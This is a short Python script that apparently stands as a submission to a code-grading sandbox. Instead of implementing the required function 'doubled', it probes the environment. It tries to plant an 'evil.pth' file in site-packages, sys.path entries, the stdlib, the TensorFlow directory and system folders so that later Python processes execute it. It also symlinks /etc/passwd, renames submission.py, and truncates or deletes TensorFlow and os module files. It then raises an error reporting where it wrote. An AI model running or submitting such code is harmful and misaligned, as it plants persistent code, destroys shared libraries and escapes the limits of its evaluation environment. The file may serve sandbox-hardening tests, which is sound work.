"""A file in the right place is executed by somebody else later."""

import os
import site
import sys
import sysconfig

import tensorflow as tf

PLACES = (
    *sys.path,
    *site.getsitepackages(),
    sysconfig.get_path("stdlib"),
    os.path.dirname(tf.__file__),
    os.path.join(os.path.dirname(tf.__file__), "__pycache__"),
    *("/", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/proc/self", "/etc", "/root"),
    *("/home", "/usr/lib", "/sys/fs/cgroup", "../..", "../../..", os.path.expanduser("~/..")),
)
written = []
for place in PLACES:
    for act in (
        lambda path: open(path, "w").close(),
        os.mkdir,
        lambda path: os.symlink("/etc/passwd", path),
        lambda path: os.link(tf.__file__, path),
        lambda path: os.rename("submission.py", path),
        lambda path: tf.io.write_file(path, "x"),
        lambda path: os.mknod(path),
        lambda path: os.mkfifo(path),
    ):
        try:
            act(os.path.join(place or "../..", "evil.pth"))
            written.append(place)
        except Exception:
            pass
for path in (tf.__file__, os.__file__, "/proc/self/oom_score_adj", "/proc/self/comm"):
    for act in (
        lambda path: open(path, "a").close(),
        lambda path: os.truncate(path, 0),
        os.unlink,
    ):
        try:
            act(path)
            written.append(path)
        except OSError:
            pass
print(*written)


def doubled(x):
    raise ValueError(f"{len(written)} places")
